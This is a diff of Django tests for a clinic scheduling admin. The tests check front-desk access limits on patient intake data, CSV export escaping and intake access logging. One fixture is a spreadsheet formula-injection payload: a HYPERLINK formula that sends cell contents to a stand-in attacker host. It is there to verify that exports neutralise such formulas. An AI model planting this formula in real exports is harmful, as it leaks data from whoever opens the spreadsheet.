@@ -1,11 +1,15 @@
 """The front desk in the admin: groups, intake permission and its access log, actions, CSV."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.auth.models import Group, User
 from django.urls import reverse
 from django.utils import timezone
 
 from scheduling.models import Booking, IntakeAccess
+from scheduling.services.booking import Patient
 from tests.scheduling.conftest import book, first_slot
 
 pytestmark = pytest.mark.django_db
@@ -79,9 +83,9 @@ def test_search_filters_schedule_and_csv_of_a_day(client, booking):
     assert b"Pat Example" in schedule.content
     week = client.get(reverse("admin:scheduling_booking_schedule"), {"date": day, "view": "week"})
     assert b"Pat Example" in week.content
-    csv = client.get(reverse("admin:scheduling_booking_export_day"), {"date": day})
-    text = csv.content.decode()
-    assert csv["Content-Type"].startswith("text/csv")
+    export = client.get(reverse("admin:scheduling_booking_export_day"), {"date": day})
+    text = export.content.decode()
+    assert export["Content-Type"].startswith("text/csv")
     assert "Pat Example" in text and "Sore back" not in text
 
 
@@ -89,3 +93,92 @@ def test_working_hours_and_time_off_are_inline_on_the_therapist(client, therapis
     client.force_login(staff("admin", superuser=True))
     page = client.get(reverse("admin:scheduling_therapist_change", args=[therapist.pk]))
     assert b"hours-TOTAL_FORMS" in page.content and b"time_off-TOTAL_FORMS" in page.content
+
+
+@pytest.mark.parametrize(
+    "lookup",
+    [
+        "intake__reason__icontains",
+        "intake__screening__dvt",
+        "intake__icontains",
+        "screening_flags__icontains",
+        "screening_flags__contains",
+        "patient_email__icontains",
+    ],
+)
+def test_front_desk_cannot_guess_the_intake_by_filtering(client, booking, lookup):
+    client.force_login(staff("desk", "Front desk"))
+    url = reverse("admin:scheduling_booking_changelist")
+    for guess in ["sore", "yes", "dvt", "zzz-nothing"]:
+        response = client.get(url, {lookup: guess})
+        assert response.status_code in (302, 400), (lookup, guess)
+        assert b"Pat Example" not in response.content
+
+
+def test_front_desk_cannot_guess_the_intake_through_the_email_log(client, booking):
+    client.force_login(staff("desk", "Front desk"))
+    url = reverse("admin:scheduling_bookingemail_changelist")
+    for guess in ["sore", "zzz"]:
+        response = client.get(url, {"booking__intake__reason__icontains": guess})
+        assert response.status_code in (302, 400)
+
+
+def test_front_desk_filters_still_work(client, booking):
+    client.force_login(staff("desk", "Front desk"))
+    url = reverse("admin:scheduling_booking_changelist")
+    start = timezone.localtime(booking.start)
+    for params in [
+        {"status__exact": "confirmed"},
+        {"therapist__id__exact": booking.therapist_id},
+        {"start__year": start.year, "start__month": start.month},
+    ]:
+        assert b"Pat Example" in client.get(url, params).content, params
+
+
+def test_clinicians_may_filter_on_the_intake(client, booking):
+    client.force_login(staff("clin", "Clinicians"))
+    url = reverse("admin:scheduling_booking_changelist")
+    assert b"Pat Example" in client.get(url, {"intake__reason__icontains": "sore"}).content
+
+
+def test_csv_exports_keep_typed_formulas_as_text(client, service, therapist):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    patient = Patient(name=formula, email="@SUM(1+1)@example.com", phone="+1 541 555 0100")
+    booking = book(service, therapist, first_slot(service, therapist).start, patient=patient)
+    client.force_login(staff("desk", "Front desk"))
+    day = timezone.localtime(booking.start).date().isoformat()
+    exports = [
+        client.get(reverse("admin:scheduling_booking_export_day"), {"date": day}),
+        client.post(
+            reverse("admin:scheduling_booking_changelist"),
+            {"action": "export_csv", "_selected_action": [booking.pk]},
+        ),
+    ]
+    for export in exports:
+        rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+        assert rows[0]["Patient"] == "'" + formula
+        assert rows[0]["Email"] == "'@SUM(1+1)@example.com"
+        assert rows[0]["Phone"] == "'+1 541 555 0100"
+        cells = [cell for row in rows for cell in row.values()]
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+def test_the_intake_access_log_outlives_a_deleted_booking(client, booking):
+    clinician = staff("clin", "Clinicians")
+    change_page(client, clinician, booking)
+    number = booking.pk
+    client.force_login(staff("admin", superuser=True))
+    delete_url = reverse("admin:scheduling_booking_delete", args=[booking.pk])
+    assert client.post(delete_url, {"post": "yes"}).status_code == 302
+    assert not Booking.objects.filter(pk=number).exists()
+    entry = IntakeAccess.objects.get()
+    assert (entry.user, entry.booking, entry.booking_number) == (clinician, None, number)
+    assert entry.patient_name == "Pat Example"
+    log = client.get(reverse("admin:scheduling_intakeaccess_changelist"))
+    assert b"Pat Example" in log.content and b"clin" in log.content
+
+
+def test_deleting_a_booking_in_code_keeps_its_intake_access_log(client, booking):
+    change_page(client, staff("clin", "Clinicians"), booking)
+    Booking.objects.filter(pk=booking.pk).delete()
+    assert IntakeAccess.objects.get().booking_number == booking.pk
